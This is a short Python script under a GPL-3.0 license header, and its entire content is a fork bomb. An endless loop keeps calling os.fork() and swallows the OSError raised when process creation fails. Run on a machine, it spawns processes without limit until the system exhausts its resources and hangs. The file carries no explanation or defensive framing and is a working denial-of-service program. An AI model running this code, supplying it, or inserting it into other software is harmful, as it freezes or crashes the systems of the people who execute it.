# SPDX-License-Identifier: GPL-3.0-or-later
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
